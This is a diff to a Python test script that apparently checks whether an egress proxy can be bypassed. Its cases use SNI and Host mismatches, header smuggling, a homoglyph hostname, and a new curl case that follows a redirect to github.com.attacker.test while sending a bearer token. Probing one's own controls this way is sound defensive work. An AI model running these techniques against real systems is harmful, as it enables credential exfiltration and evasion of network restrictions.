@@ -9,6 +9,7 @@ import json
 import os
 import socket
 import ssl
+import subprocess
 import sys
 from urllib.parse import urlsplit
 
@@ -114,6 +115,24 @@ def smuggled(fields, body=b""):
     return say(f"POST /user HTTP/1.1\r\nHost: {API}\r\n{fields}\r\n".encode("latin-1") + body)
 
 
+def redirected():
+    """What curl makes of a redirect to another host; its own word where it ended."""
+    url = f"https://{API}/redirect?to=https%3A%2F%2Fgithub.com.attacker.test%2Fuser"
+    header = f"Authorization: Bearer {PLACEHOLDER}"
+    command = [
+        "curl",
+        "-sS",
+        "-L",
+        "--location-trusted",
+        "-H",
+        header,
+        "-w",
+        " %{http_code} %{url_effective}",
+        url,
+    ]
+    return subprocess.run(command, capture_output=True, text=True, timeout=60, check=False).stdout
+
+
 CASES = {
     "01": lambda: get(target="attacker.test:443", sni="attacker.test"),
     "02": lambda: get(sni="attacker.test"),
@@ -128,6 +147,7 @@ CASES = {
     "07 lookalike": lambda: get(host="\u0430pi.github.com".encode().decode("latin-1")),
     "08": lambda: get(target="140.82.121.6:443"),
     "09": lambda: get(host="sentry.io", target="sentry.io:443", sni="sentry.io"),
+    "10": redirected,
     "11": lambda: get(
         host="github.com.attacker.test",
         target="github.com.attacker.test:443",
